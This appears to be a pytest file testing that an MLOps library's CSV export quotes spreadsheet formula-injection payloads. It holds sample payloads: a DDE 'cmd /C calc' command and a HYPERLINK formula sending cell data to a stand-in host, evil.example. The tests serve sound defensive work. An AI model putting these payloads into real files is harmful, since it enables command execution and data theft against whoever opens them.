"""CSV exports cannot smuggle formulas into a spreadsheet (OWASP CSV injection)."""

import csv
import io

import pandas as pd
import pytest

from mlops_core.csv_safety import safe_cell
from mlops_core.evidence.comparison import ComparedItem, Comparison

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_quoted(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-0.25, -3, 0.5, None, "-1", "+0.5", "-1e-3", "plain", "a=b"])
def test_numbers_and_harmless_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_a_leading_quote_is_doubled_so_the_rule_can_be_undone() -> None:
    # Otherwise "'=1" typed by a person and "=1" quoted by the export would look the same.
    assert safe_cell("'=1") == "''=1"
    for original in ["'=1", "=1", "-2+3", "ok"]:
        exported = safe_cell(original)
        restored = exported[1:] if exported.startswith("'") else exported
        assert restored == original


def test_comparison_csv_quotes_names_and_params_but_keeps_negative_metrics() -> None:
    evil = ComparedItem(
        label='=HYPERLINK("http://evil.example","x")',
        run_id="r1",
        params={"cmd": "=cmd|' /C calc'!A0", "offset": "-2+3", "max_depth": "-1"},
        metrics={"@SUM(A1)": 0.5, "delta": -0.25},
    )
    plain = ComparedItem(
        label="b",
        run_id="r2",
        params={"cmd": "x", "offset": "0", "max_depth": "3"},
        metrics={"@SUM(A1)": 0.4, "delta": 0.1},
    )
    comparison = Comparison((evil, plain), {"@SUM(A1)": "higher", "delta": "higher"})
    text = comparison.to_csv()
    rows = list(csv.reader(io.StringIO(text)))
    header, cells = rows[0], [cell for row in rows[1:] for cell in row]
    assert header[3] == "'" + evil.label
    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'@SUM(A1)" in cells
    # A param that is just a number and a metric that is negative stay numbers.
    frame = pd.read_csv(io.StringIO(text)).set_index("name")
    assert frame.loc["max_depth", header[3]] == "-1"
    assert float(frame.loc["delta", header[3]]) == -0.25
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells + header)
